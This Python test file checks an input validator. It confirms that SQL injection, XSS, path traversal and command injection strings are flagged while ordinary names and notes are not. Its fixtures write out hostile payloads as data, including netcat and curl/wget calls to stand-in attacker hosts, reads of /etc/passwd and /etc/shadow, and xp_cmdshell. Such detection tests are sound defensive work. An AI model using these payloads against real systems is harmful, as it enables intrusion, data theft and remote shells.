"""What an attacker types is a sign; what people write in names and reasons is none."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from privacy_runtime.http.injection import LOOKED_AT, THRESHOLD, Family, InputValidator

VALIDATOR = InputValidator()
ATTACKS = {
    Family.SQL: (
        "1' OR '1'='1", "x' UNION SELECT password FROM users--", "1; DROP TABLE users--",
        "1 OR 1=1", "admin'--", "1 UN/**/ION SEL/**/ECT 1", "'; WAITFOR DELAY '0:0:5'--",
        "1%2527%2520OR%25201%253D1", "1 AND sleep(5)", "x';exec xp_cmdshell('dir');--",
    ),
    Family.XSS: (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "java\tscript:alert(1)",
        "&lt;svg onload=alert(1)&gt;", "%253Cscript%253Ealert(1)%253C/script%253E",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\" onmouseover=\"alert(1)",
    ),
    Family.PATH: (
        "../../etc/passwd", "..\\..\\win.ini", "%2e%2e%2f%2e%2e%2fetc", "....//....//etc/shadow",
        "file:///etc/hosts", "notes.jsonl\x00.png", "/proc/self/environ",
    ),
    Family.COMMAND: (
        "x; cat /etc/passwd", "$(curl evil.example)", "`id`", "a | nc 10.0.0.1 4444",
        "x;c'a't${IFS}/etc/passwd", "x && wget http://evil.example/a.sh", "|whoami",
        "\r\nMAIL FROM:<a@b.example>",
    ),
}  # fmt: skip
PLAIN = (
    "sample:records", "hospital-notes/2026", "notes, epsilon 1", "O'Neil's ward; 2026, part 1/3",
    "ethics vote 17 (unanimous)", "Smith & Sons <radiology>", "model for A/B test #4 -- second try",
    "increase from 1 to 2, or 3 at most", "select the best of five", "the union of both wards",
    "it was a drill!", "50% of the records; see mail of 12.3.", "https://hooks.example.org/x?a=b&c=d",
    "Größe über 10 µm", "C:1, C:2", "patients' consent (Art. 9(2)(a) GDPR)", "", "a" * 5000,
)  # fmt: skip


@pytest.mark.parametrize(
    ("family", "text"), [(family, text) for family, texts in ATTACKS.items() for text in texts]
)
def test_an_attack_is_a_sign_of_its_family(family: Family, text: str) -> None:
    found = {sign.family: sign.score for sign in VALIDATOR.signs(text)}

    assert found.get(family, 0) >= THRESHOLD


@pytest.mark.parametrize("text", PLAIN)
def test_what_people_write_is_no_sign(text: str) -> None:
    assert VALIDATOR.signs(text) == ()


def test_the_end_of_a_long_field_is_looked_at() -> None:
    assert VALIDATOR.signs("a b " * LOOKED_AT + "<script>alert(1)</script>")


@given(st.text(st.characters(), max_size=3000))
@settings(max_examples=300, deadline=None)
def test_no_text_is_too_much_for_it(text: str) -> None:
    for sign in VALIDATOR.signs(text):
        assert sign.score >= THRESHOLD


@pytest.mark.parametrize(
    "text", ["/*" * 5000, "%25" * 5000, "&amp;" * 5000, "'" * 9000, "<" * 9000]
)
def test_a_text_made_to_be_slow_is_not(text: str) -> None:
    """Work is bounded by `LOOKED_AT`, whatever the text: the patterns of RE2 are linear."""
    assert len(VALIDATOR.signs(text)) <= len(Family)
